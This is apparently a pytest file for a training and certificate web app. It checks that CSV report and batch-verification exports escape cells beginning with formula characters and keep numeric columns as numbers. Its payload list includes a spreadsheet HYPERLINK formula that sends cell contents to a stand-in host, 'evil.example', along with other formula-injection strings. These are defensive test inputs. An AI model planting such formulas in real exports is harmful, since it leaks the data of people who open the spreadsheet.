"""CSV exports cannot run as spreadsheet formulas, and numbers stay numbers.

Whatever is in the database — a name, a unit, a revocation reason — a cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
with a leading apostrophe. Counts, hours and line numbers are written as numbers.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests.certificates.helpers import finish_course
from tests.security.conftest import World
from tests.security.test_uploads import upload
from trainer.certificates.ids import format_certificate_id
from trainer.csvsafe import csv_text
from trainer.models import utcnow

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_no_live_cell(rows: list[dict[str, str]], where: str) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(STARTS), f"{where}, {column}: {cell!r} would run"


def assert_numbers(rows: list[dict[str, str]], columns: tuple[str, ...], where: str) -> None:
    for row in rows:
        for column in columns:
            float(row[column])  # a number as written, no apostrophe before it
            assert not row[column].startswith("'"), f"{where}, {column}: {row[column]!r}"


@pytest.mark.parametrize("formula", FORMULAS)
def test_report_exports(world: World, db, formula):
    """Names and unit names straight from the database, in the page and API exports."""
    world.users["learner"].full_name = formula
    world.unit.name = formula
    db.commit()
    admin, api = world.browser("admin"), world.app.test_client()
    headers = world.api_headers("admin")
    org = world.org_slug
    for path, client, kwargs in [
        (f"/orgs/{org}/reports/learners.csv", admin, {}),
        (f"/orgs/{org}/reports/completion.csv", admin, {}),
        (f"/api/v1/orgs/{org}/reports/learners.csv", api, {"headers": headers}),
        (f"/api/v1/orgs/{org}/reports/completion.csv", api, {"headers": headers}),
    ]:
        response = client.get(path, **kwargs)
        assert response.status_code == 200 and response.mimetype == "text/csv", path
        rows = rows_of(response.get_data(as_text=True))
        assert rows, f"{path} is empty"
        assert_no_live_cell(rows, path)
        shown = {cell for row in rows for cell in row.values()}
        assert "'" + formula in shown, f"{path} does not keep the text after the apostrophe"
        if "completion" in path:
            columns = ("assigned", "started", "completed", "overdue", "certificates")
            assert_numbers(rows, columns, path)


@pytest.mark.parametrize("formula", FORMULAS)
def test_batch_verification_results(world: World, db, formula):
    """The query, the printed name and a revocation reason, as a board's spreadsheet gets them."""
    learner = world.users["other_learner"]
    learner.full_name = formula.strip()  # as printed on a certificate
    db.commit()
    certificate = finish_course(world.app, db, learner, "health")
    certificate.revoked_at, certificate.revocation_reason = utcnow(), formula
    db.commit()
    content = f"id\n{format_certificate_id(certificate.id)}\n".encode()
    content += b'"' + formula.replace('"', '""').encode() + b'"\n'
    browser = world.browser("verifier")
    page = upload(browser, "/verify/batch", content, "ids.csv").get_data(as_text=True)
    start = page.index("/verify/batch/")  # the summary page links to the results
    response = browser.get(page[start : page.index(".csv", start) + 4])
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = rows_of(response.data.decode("utf-8-sig"))
    assert len(rows) == 2
    assert_no_live_cell(rows, "the results")
    assert rows[0]["revocation_reason"] == "'" + formula
    assert rows[0]["name"] == "'" + formula.strip()
    assert_numbers(rows, ("line",), "the results")
    assert_numbers(rows[:1], ("hours",), "the results")


@pytest.mark.parametrize("number", [0, 12, -3, 1.25, -0.5, 50_000])
def test_real_numbers_stay_numbers(number):
    (row,) = rows_of(csv_text(["value"], [[number]]))
    assert row["value"] == str(number)
